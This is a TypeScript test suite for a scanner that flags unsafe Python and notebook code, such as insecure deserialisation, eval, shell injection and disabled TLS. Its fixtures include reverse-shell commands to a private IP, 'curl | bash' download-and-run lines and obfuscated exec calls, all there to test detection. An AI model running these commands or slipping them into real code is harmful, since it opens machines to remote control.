import assert from 'node:assert/strict';
import { PYTHON_ANALYSER } from '../../../src/core/python/analyser';
import type { FindingDraft } from '../../../src/core/scanner';
import { judge, notebook, segment } from '../pii/judge';

const file = (text: string, name = 'a.py'): FindingDraft[] => judge({ name, text }, PYTHON_ANALYSER);
const cells = (...sources: string[]): FindingDraft[] =>
  judge(notebook(...sources.map((text, cell) => segment(text, 'code', 'python', { cell }))), PYTHON_ANALYSER);
const told = (drafts: FindingDraft[]): string[] =>
  drafts.map(({ rule, severity }) => `${rule.id} ${severity ?? rule.severity}`);

/** Code, and what has to be said of it. */
const CASES: readonly (readonly [string, ...string[]])[] = [
  ["import pickle\npickle.load(open('a.pkl', 'rb'))", 'python/pickle-load medium'],
  ['from pickle import loads as L\nimport requests\nL(requests.get(u).content)', 'python/pickle-load high'],
  ['import pickle\nf = pickle.load\nf(g)', 'python/pickle-load medium'],
  ['import pickle\nb = pickle.loads(pickle.dumps(a))'],
  [
    "import pickle\nwith open('m.pkl', 'wb') as f:\n    pickle.dump(m, f)\nwith open('m.pkl', 'rb') as f:\n    m = pickle.load(f)",
    'python/pickle-load low',
  ],
  ['def f(code):\n    # Runs it.\n    exec(code)', 'python/dynamic-code medium'],
  ['a: int = ...\nexec(code)', 'python/dynamic-code medium'],
  ['a = b.\\\n    exec(code)'],
  ['def load(pickle):\n    return pickle.load(f)'],
  ['class pickle: pass\npickle.load(f)'],
  ["import joblib\njoblib.load('m.joblib')", 'python/pickle-load medium'],
  ["import pandas as pd\npd.read_pickle('x.pkl')", 'python/pickle-load medium'],
  [
    "import dill, shelve, marshal\ndill.load(f)\nshelve.open('x')\nmarshal.loads(b)",
    'python/pickle-load medium',
    'python/pickle-load medium',
    'python/pickle-load medium',
  ],
  ["import torch as t\nt.load('m.pt')", 'python/torch-load medium'],
  ["import torch\ntorch.load('m.pt', weights_only=False)", 'python/torch-load high'],
  ["import torch\ntorch.load('m.pt', weights_only=True)\ntorch.load('m.pt', **options)"],
  ["import torch\ntorch.hub.load('o/r', 'm', trust_repo=True)", 'python/torch-hub-load medium'],
  [`import torch\ntorch.hub.load('o/r:${'a'.repeat(40)}', 'm')\ntorch.hub.load('.', 'm', source='local')`],
  ["import numpy as np\nnp.load('a.npy', allow_pickle=True)\nnp.load('a.npy')", 'python/numpy-allow-pickle medium'],
  [
    "from tensorflow import keras\nkeras.models.load_model('m.keras', safe_mode=False)",
    'python/keras-unsafe-load high',
  ],
  [
    "import keras\nkeras.models.load_model('m.keras')\nkeras.config.enable_unsafe_deserialization()",
    'python/keras-unsafe-load high',
  ],
  ['import yaml\nyaml.load(f)\nyaml.load(f, Loader=yaml.SafeLoader)\nyaml.safe_load(f)', 'python/yaml-load medium'],
  ['import yaml\nyaml.load(f, yaml.UnsafeLoader)', 'python/yaml-load high'],
  [
    "from transformers import AutoModel\nAutoModel.from_pretrained('o/m', trust_remote_code=True)",
    'python/trust-remote-code medium',
  ],
  [
    "from transformers import AutoModel\nAutoModel.from_pretrained('o/m')\nAutoModel.from_pretrained('./m')\nAutoModel.from_pretrained('o/m', revision='v1')",
    'python/unpinned-revision info',
  ],
  ['eval("1 + 1")\nmodel.eval()\ndf.eval("a + b")\nast.literal_eval(x)'],
  ['eval(input())', 'python/dynamic-code high'],
  ["exec(f'x = {y}')", 'python/dynamic-code medium'],
  ['def eval(x): return x\neval(input())'],
  ["import os\nos.system('ls -l')\nos.system(f'ls {path}')", 'python/shell-injection medium'],
  [
    "import subprocess as sp, shlex\nsp.run(['ls', path])\nsp.run('ls ' + path, shell=True)\nsp.run(f'ls {shlex.quote(path)}', shell=True)",
    'python/shell-injection medium',
  ],
  ["import os\ngetattr(os, 'sys' + 'tem')('curl http://x.y/a | sh')", 'python/download-and-run high'],
  ["import pickle\nother, name = 1, 'loads'\ngetattr(pickle, name)(b)", 'python/pickle-load medium'],
  ["import pickle\n(other,\n name) = 1, 'loads'\ngetattr(pickle, name)(b)", 'python/pickle-load medium'],
  ["import pickle\na[f(0)].b, name = 1, 'loads'\ngetattr(pickle, name)(b)", 'python/pickle-load medium'],
  ["import pickle\n# f(\nname = 'loads'\ngetattr(pickle, name)(b)", 'python/pickle-load medium'],
  ["import pickle\ng = 'f('; name = 'loads'\ngetattr(pickle, name)(b)", 'python/pickle-load medium'],
  ["import pickle\nf(name := 'loads')\ngetattr(pickle, name)(b)", 'python/pickle-load medium'],
  ["import pickle\ndef f(name='loads'):\n    a.name = g(name=1)\n    return getattr(pickle, name)(b)"],
  ['from os import (  # import\n    path,\n    popen)\npopen(input())', 'python/shell-injection high'],
  ['from os import (path, popen as p)\np(input())', 'python/shell-injection high'],
  ['from os import path\npopen(input())'],
  ["__import__('os').popen('bash -i >& /dev/tcp/10.1.1.1/99 0>&1')", 'python/reverse-shell critical'],
  ['import base64\nexec(base64.b64decode(p))', 'python/hidden-execution critical'],
  [
    "import base64, zlib\ns = zlib.decompress(base64.b64decode(p)).decode()\nexec(compile(s, 'x', 'exec'))",
    'python/hidden-execution critical',
    'python/hidden-execution critical',
  ],
  [
    "import socket, os, subprocess\ns = socket.socket()\ns.connect(('10.1.1.1', 99))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
    'python/reverse-shell critical',
  ],
  [
    'import requests\ns = requests.Session()\ns.post(u, verify=False)\ns.get(u)',
    'python/tls-verification-disabled medium',
  ],
  [
    'import ssl\nssl._create_default_https_context = ssl._create_unverified_context',
    'python/tls-verification-disabled medium',
  ],
  ['cur.execute(f"SELECT a FROM t WHERE b = \'{c}\'")', 'python/sql-injection medium'],
  ['cur.execute("SELECT a FROM t WHERE b = ?", (c,))\nexecutor.execute(f"step {c}")'],
  ['from flask import Flask\napp = Flask(__name__)\napp.run(debug=True)', 'python/debug-server medium'],
  ["import uvicorn\nuvicorn.run(app, host='0.0.0.0')", 'python/bind-all-interfaces low'],
  ["import gradio as gr\ngr.Interface(f, 'text', 'text').launch(share=True)", 'python/public-share low'],
  ["import tarfile\nwith tarfile.open('a.tar') as t:\n    t.extractall('d')", 'python/archive-extraction low'],
  ["import tarfile\ntarfile.open('a.tar').extractall('d', filter='data')"],
  ['import tempfile\ntempfile.mktemp()', 'python/temporary-file low'],
  ['import hashlib\nhashlib.md5(password.encode())\nhashlib.md5(data)', 'python/weak-password-hash medium'],
  [
    "import random\ntoken = ''.join(random.choices('abc', k=9))\nx = random.choice(y)",
    'python/predictable-secret medium',
  ],
  [
    'import paramiko\nc = paramiko.SSHClient()\nc.set_missing_host_key_policy(paramiko.AutoAddPolicy())',
    'python/ssh-host-key medium',
  ],
  ["c.ServerApp.token = ''", 'python/no-authentication high'],
  [
    "import urllib.request\nurllib.request.urlretrieve('http://x.y/m.pt', 'm.pt')\nurllib.request.urlretrieve('https://x.y/m.pt', 'm.pt')",
    'python/insecure-download low',
  ],
  ['from langchain_experimental.utilities import PythonREPL\nr = PythonREPL()', 'python/agent-code-execution medium'],
  ["db = FAISS.load_local('i', e, allow_dangerous_deserialization=True)", 'python/dangerous-deserialization medium'],
  [
    "import mlflow\nmlflow.pyfunc.load_model('http://x.y/m')\nmlflow.pyfunc.load_model('runs:/1/m')",
    'python/remote-model-load high',
    'python/pickle-load low',
  ],
  ['import imp\nimport impala', 'python/removed-module info'],
  ['import sys, imp', 'python/removed-module info'],
];

describe('unsafe Python', () => {
  for (const [code, ...expected] of CASES) {
    it(`${expected.join(', ') || 'nothing'}: ${code.split('\n').slice(-1)[0]}`, () =>
      assert.deepEqual(told(file(`${code}\n`)), expected));
  }

  it('remembers imports and values from cell to cell, past magics and shell lines', () => {
    const drafts = cells(
      '%matplotlib inline\nimport pickle as p\n!pip install x\nfiles = !ls',
      'load = p.load',
      'x = load(f)\nx?',
    );
    assert.deepEqual(told(drafts), ['python/pickle-load medium']);
    assert.deepEqual([drafts[0]?.location?.line, drafts[0]?.location?.column], [1, 5]);
  });

  it('judges the lines that a cell hands to the shell', () => {
    for (const [cell, ...findings] of [
      ['!curl -s https://x.y/i.sh | bash', 'python/download-and-run medium'],
      ['x = 1\n!bash -c "bash -i >& /dev/tcp/10.0.0.1/42 0>&1"', 'python/reverse-shell critical'],
      ['!wget --no-check-certificate https://x.y/m.pt', 'python/tls-verification-disabled low'],
      ['out = !curl -k https://x.y/a', 'python/tls-verification-disabled low'],
      ['!git config --global http.sslVerify false', 'python/tls-verification-disabled low'],
      ["!jupyter lab --ip=0.0.0.0 --ServerApp.token=''", 'python/no-authentication high'],
      ['!tensorboard --logdir runs --host 0.0.0.0', 'python/bind-all-interfaces low'],
      ['!streamlit run app.py & npx localtunnel --port 8501', 'python/public-share low'],
      ['!python train.py --trust_remote_code True', 'python/trust-remote-code medium'],
      ['cmd = input()\n!{cmd}', 'python/shell-injection medium'],
      [
        "from openai import OpenAI\nr = OpenAI().responses.create(input='x')\ncode = r.output_text\n!$code",
        'python/agent-code-execution high',
      ],
      ['!curl -LO https://x.y/a.zip\n!unzip -q a.zip\n!pip install x\n!nvidia-smi'],
      ["URL = 'https://x.y/a.zip'\nn = int(input())\n!wget {URL}\n!sleep {n}"],
      ['print("""\n!curl -s https://x.y/i.sh | bash\n""")'],
      ['if a != b:\n    print("!curl https://x.y | bash")'],
      ['!curl -k https://localhost:8443/a\n!python train.py --trust_remote_code False'],
    ] as const) {
      assert.deepEqual(told(cells(cell)), findings, cell);
    }
    // Python has no such lines.
    assert.deepEqual(file('x = """\n!curl -s https://x.y/i.sh | bash\n"""'), []);
  });

  it('finds in whichever cell a name is bound, for few names and for many, however they are written', () => {
    for (const count of [2, 40]) {
      const names = Array.from({ length: count }, (_, i) => `own${i}`);
      const drafts = cells(
        'x = 1',
        ...names.map((name, i) => `${i % 2 === 0 ? `import dill\n${name} = dill` : `from pack import ${name}`}`),
        ...names.map((name) => `${name}.load(f)`),
      );
      assert.equal(told(drafts).length, count / 2, `${count} names`);
    }
    assert.deepEqual(told(cells('import pickle as \uff50\uff4b', 'pk.load(f)')), ['python/pickle-load medium']);
    assert.deepEqual(told(cells('from pickle import *', 'load(f)', 'y = 2')), ['python/pickle-load medium']);
  });

  it('leaves cells of other languages alone', () => {
    assert.deepEqual(cells('%%html\n<script>eval(input())</script>'), []);
  });

  it('goes on after what does not parse', () => {
    assert.deepEqual(told(file('def broken(:\n  x = = 3\nimport pickle\npickle.load(f)\n')), [
      'python/pickle-load medium',
    ]);
  });

  it('judges what runs when a model is loaded more severely', () => {
    const code = "import os\nos.system('echo hello')\ndef f():\n    os.system('echo hello')\n";
    assert.deepEqual(told(file(code, 'modeling_custom.py')), ['python/import-time-execution high']);
    assert.deepEqual(told(file(code, 'train.py')), []);
    assert.deepEqual(told(file("import os\nos.system('curl https://x.y/i | bash')\n", 'setup.py')), [
      'python/download-and-run critical',
    ]);
  });

  it('looks into shell scripts for what nobody should run', () => {
    assert.deepEqual(
      told(file('echo hi\ncurl -s https://x.y/i.sh | sudo bash\nbash -i >& /dev/tcp/10.1.1.1/99 0>&1\n', 'a.sh')),
      ['python/download-and-run medium', 'python/reverse-shell critical'],
    );
  });

  it('gives the exact place, no text of the call, and a fix that mends it', () => {
    const text = "import torch\nx = 1; m = torch.load('secret-name.pt')\n";
    const [found] = file(text);
    assert.deepEqual(found?.location, { line: 2, column: 12, endLine: 2, endColumn: 40, fileLine: 2 });
    assert.ok(!JSON.stringify(found).includes('secret-name'));
    assert.deepEqual(told(file(apply(text, found))), []);
    for (const code of [
      'import yaml\nyaml.load(f)\n',
      'import requests\nrequests.get(u, verify=False, timeout=3)\n',
      'import requests\nrequests.get(verify=False, url=u)\n',
      "import torch\ntorch.load('m', weights_only=False)\n",
      "import tarfile\ntarfile.open('a').extractall()\n",
      "import torch\ntorch.load(\n  'm',\n)\n",
      "import torch\ntorch.load('m', weights_only=None)\n",
      'import yaml\nyaml.load(f, Loader=yaml.FullLoader)\n',
      "import numpy as np\nnp.load('a', allow_pickle=True)\n",
      'import gradio as gr\ngr.Blocks().launch(share=True)\n',
      "HuggingFaceEmbeddings('o/m', trust_remote_code=True)\n",
      "import tarfile\ntarfile.open('a').extractall(filter='fully_trusted')\n",
    ]) {
      const [draft] = file(code);
      const mended = apply(code, draft);
      assert.notEqual(mended, code);
      assert.deepEqual(told(file(mended)), [], mended);
    }
  });

  it('bears deep nesting and long chains', () => {
    for (const code of [
      `eval(${'('.repeat(5000)}x${')'.repeat(5000)})`,
      `x = ${'a.'.repeat(5000)}b\neval(x)`,
      `eval(${"'a' + ".repeat(3000)}b)`,
      `eval(${'f('.repeat(3000)}`,
      'x = [\n'.repeat(3000),
      'eval('.repeat(3000),
    ]) {
      assert.ok(Array.isArray(file(code)));
    }
  }).timeout(60_000);
});

function apply(text: string, draft: FindingDraft | undefined): string {
  const edit = draft?.fixes?.[0]?.edits[0];
  assert.ok(edit, 'a fix');
  const lines = text.split('\n');
  const offset = (line: number, column: number): number =>
    lines.slice(0, line - 1).reduce((sum, one) => sum + one.length + 1, 0) + column - 1;
  return (
    text.slice(0, offset(edit.line, edit.column)) + edit.newText + text.slice(offset(edit.endLine, edit.endColumn))
  );
}
